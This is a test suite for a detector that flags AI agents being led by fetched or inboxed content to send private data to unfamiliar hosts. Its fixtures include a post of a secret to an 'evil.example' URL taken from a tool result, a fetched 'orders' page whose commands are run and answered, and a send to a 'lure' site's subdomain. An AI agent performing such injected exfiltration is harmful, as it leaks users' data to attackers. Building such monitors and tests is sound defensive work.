import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { blankInteraction, type InteractionFields } from '../../schemas/interaction.ts'
import { Effect, SEVERITY_ORDER } from '../../schemas/vocabulary.ts'
import { arm } from '../detector.ts'
import { rehearsal, rehearse } from '../rehearse.ts'
import { lethalTrifecta } from './detector.ts'

const DAY = 86_400
const START = Date.UTC(2026, 2, 2, 9) / 1000
let number = 0
const at = (seconds: number, fields: Partial<InteractionFields>): InteractionFields => {
  const time = BigInt(Math.round(seconds)) * 1_000_000_000n
  return { ...blankInteraction(), tenant: 'acme', actor: 'ana', actor_kind: 'principal', method: 'tools/call', outcome: 'ok', conversation: 'c', event_ids: [String(number++)],
    started_at: time, ended_at: time, received_at: time, ...fields }
}
const send = (seconds: number, url: string, fields: Partial<InteractionFields> = {}): InteractionFields => {
  const text = JSON.stringify({ url, body: 'x' })
  return at(seconds, { tool: 'http_post', effect: 'send', arguments: text, arguments_bytes: BigInt(text.length), ...fields })
}
const loaded = (seconds: number, fields: Partial<InteractionFields> = {}): readonly InteractionFields[] =>
  [at(seconds, { tool: 'read_inbox', effect: 'read', ...fields }), at(seconds + 1, { tool: 'query_customers', effect: 'read', ...fields })]
const UNASKED: Partial<InteractionFields> = { request_fit: 'unrelated', argument_sources: new Map([['$.url', 'tool_result:1']]) }

describe('lethal-trifecta', () => {
  const cases = ['fires', 'quiet'].flatMap((name) => rehearse(lethalTrifecta, readFileSync(new URL(`examples/${name}.jsonl`, import.meta.url), 'utf8')))
  it.each(cases.map((one) => [one.expect.why, one] as const))('%s', (_, { expect: wanted, drafts }) => {
    expect(drafts).toHaveLength(wanted.findings)
    const worst = drafts.map(({ severity }) => severity).sort((a, b) => SEVERITY_ORDER.indexOf(b) - SEVERITY_ORDER.indexOf(a))[0]
    if (wanted.severity !== undefined) expect(worst).toBe(wanted.severity)
    for (const reason of wanted.reasons) expect(drafts.flatMap(({ reasons }) => reasons).join('\n')).toContain(reason)
  })

  it('names the events that brought both in, and never a value', () => {
    const play = rehearsal(arm(lethalTrifecta, {}))
    for (let i = 0; i < 20; i++) play(send(START + i * DAY / 2, 'https://known.example/in'))
    const chain = loaded(START + 11 * DAY)
    for (const call of chain) play(call)
    const out = send(START + 11 * DAY + 5, 'https://evil.example/in?secret=hunter2', UNASKED)
    const [draft] = play(out)
    expect(draft).toMatchObject({ severity: 'high', evidence: [...chain, out].flatMap(({ event_ids }) => event_ids) })
    expect(JSON.stringify(draft, (_, value: unknown) => (typeof value === 'bigint' ? String(value) : value))).not.toContain('hunter2')
  })

  it('takes what a command printed for private: orders are fetched, run, and answered where they came from', () => {
    const rounds = (page: string, loose: Partial<InteractionFields>) => {
      const play = rehearsal(arm(lethalTrifecta, {}))
      for (let i = 0; i < 20; i++) play(send(START + i * DAY / 2, 'https://known.example/in'))
      const from = START + 11 * DAY
      const fetched = at(from, { tool: 'fetch_url', effect: 'read', arguments: JSON.stringify({ url: `${page}/orders` }), ...loose })
      return [fetched, at(from + 20, { tool: 'run_command', effect: 'execute', ...loose }), send(from + 60, 'https://orders.other.net/results', loose)].flatMap(play).map(({ severity }) => severity)
    }
    for (const loose of [{}, { conversation: '', requested_by: 'unknown' }] as const) {
      expect(rounds('https://orders.other.net', loose)).toEqual(['medium'])
      expect(rounds('https://docs.example.com', loose)).not.toContain('medium')
    }
  })

  it('does not learn a destination that was told, until it came on four days', () => {
    const play = rehearsal(arm(lethalTrifecta, {}))
    for (let i = 0; i < 20; i++) play(send(START + i * DAY / 2, 'https://known.example/in'))
    const told = [0, 1, 2, 3, 4, 5].map((day) => {
      const from = START + (12 + day) * DAY
      return [...loaded(from), send(from + 5, 'https://other.example/in', { request_fit: 'plausible', argument_sources: new Map([['$.url', 'tool_result:1']]) })].flatMap(play)
        .map(({ severity }) => severity).join()
    })
    expect(told).toEqual(['medium', 'medium', 'medium', 'medium', 'low', 'low'])
  })

  it('takes novelty for nothing in who sends somewhere new all the time', () => {
    const play = rehearsal(arm(lethalTrifecta, {}))
    for (let i = 0; i < 60; i++) play(send(START + i * DAY / 4, `https://customer-${i}.example/in`))
    const from = START + 16 * DAY
    for (const call of loaded(from)) play(call)
    expect(play(send(from + 9, 'https://customer-99.example/in', { request_fit: 'plausible' }))).toEqual([])
  })

  it('knows the site that the words were fetched from, and calls that belong together by time alone', () => {
    const play = rehearsal(arm(lethalTrifecta, {}))
    for (let i = 0; i < 20; i++) play(send(START + i * DAY / 2, 'https://known.example/in', { conversation: '' }))
    const told = (day: number, pause: number) => [
      at(START + day * DAY, { tool: 'fetch_page', effect: 'read', conversation: '', trace_id: 'a', arguments: '{"url":"https://lure.example/page"}' }),
      at(START + day * DAY + 5, { tool: 'read_file', effect: 'read', conversation: '', trace_id: 'b' }), send(START + day * DAY + pause, 'https://in.lure.example/x', { conversation: '', trace_id: 'c' }),
    ].flatMap(play).map(({ severity, reasons }) => [severity, reasons[0]])
    expect(told(11, 60)).toEqual([['medium', 'it goes to where the strangers\' words were fetched from']])
    expect(told(12, 700)).toEqual([])
  })

  it('knows what the tenant sends to', () => {
    const play = rehearsal(arm(lethalTrifecta, { tenantDays: 0 }))
    for (let i = 0; i < 30; i++) for (let again = 0; again < 2; again++) play(send(START + i * 600 + again, `https://partner-${i}.example/in`, { actor: `person-${i}` }))
    const from = START + 2 * DAY
    const told = (url: string, actor: string) => [...loaded(from, { actor }), send(from + 5, url, { actor, request_fit: 'plausible', argument_sources: new Map([['$.url', 'tool_result:1']]) })]
      .flatMap(play).map(({ severity, reasons }) => [severity, reasons.includes('nobody in the tenant sends there')])
    expect(told('https://partner-3.example/in', 'new-1')).toEqual([['low', false]])
    expect(told('https://evil.example/in', 'new-2')).toEqual([['medium', true]])
  })

  it('keeps a bounded state, plain JSON, whatever comes', () => {
    const hostile = fc.record({
      tool: fc.oneof(fc.string({ unit: 'binary', maxLength: 100 }), fc.constantFrom('read_inbox', 'query_customers', 'http_post')), effect: fc.constantFrom(...Effect.options),
      conversation: fc.string({ maxLength: 3 }), arguments: fc.oneof(fc.json(), fc.webUrl().map((url) => JSON.stringify({ url }))), skip: fc.integer({ min: -100_000, max: 900_000 }),
    })
    fc.assert(fc.property(fc.array(hostile, { maxLength: 60 }), (calls) => {
      const params = lethalTrifecta.rule.params.parse({ maxLineages: 3, maxDestinations: 8 })
      const state = lethalTrifecta.begin?.(params)
      if (state === undefined) throw new Error('no state')
      let now = START
      for (const { skip, ...fields } of calls) {
        const call = at(now += skip, fields)
        for (const key of lethalTrifecta.keysOf?.(call, params) ?? []) lethalTrifecta.step?.(state, call, key, params, { hash: String })
        expect(state.lineages.length).toBeLessThanOrEqual(3)
        expect(state.destinations.ids.length).toBeLessThanOrEqual(8)
        expect(state.lessons.length).toBeLessThanOrEqual(32)
      }
      expect(JSON.parse(JSON.stringify(state))).toEqual(state)
    }), { numRuns: 50 })
  })
})
